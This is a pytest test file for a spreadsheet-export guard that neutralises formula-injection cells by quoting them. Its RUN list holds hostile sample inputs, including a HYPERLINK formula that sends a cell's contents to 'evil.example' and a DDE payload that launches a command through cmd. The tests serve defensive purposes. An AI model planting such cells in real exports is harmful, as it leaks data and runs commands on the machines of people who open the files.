from __future__ import annotations

import io

import pandas as pd
import pytest

from assay.spreadsheet import guarded

RUN = [
    '=HYPERLINK("https://evil.example?"&A1, "open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
STAY = ["-0.5", "+3", "-1,234.5", "1e-3", "-.5", "-12%", "fine", "a=b", "'quoted", "", " = no"]


@pytest.mark.parametrize("cell", RUN)
def test_a_cell_that_would_be_run_is_text(cell: str) -> None:
    table = pd.DataFrame({cell: [cell, "fine"], "score": [-0.5, 1.0]})
    found = pd.read_csv(io.StringIO(guarded(table).to_csv(index=False)), keep_default_na=False)
    shown = "'" + cell.replace("\r", "\n")
    assert list(found) == [shown, "score"]
    assert found.iloc[:, 0].tolist() == [shown, "fine"]
    assert found["score"].tolist() == [-0.5, 1.0]


@pytest.mark.parametrize("cell", STAY)
def test_every_other_cell_stays(cell: str) -> None:
    table = pd.DataFrame({"text": [cell], "count": [-3], "none": [None]})
    assert guarded(table).to_csv(index=False) == table.to_csv(index=False)


def test_a_carriage_return_begins_no_cell_of_its_own() -> None:
    table = pd.DataFrame({"text": ["fine\r=1+1", "fine\r\n=1+1"], "score": [1, 2]})
    text = guarded(table).to_csv(index=False)
    found = pd.read_csv(io.StringIO(text))
    assert found["text"].tolist() == ["fine\n=1+1", "fine\r\n=1+1"]
    assert found["score"].tolist() == [1, 2]
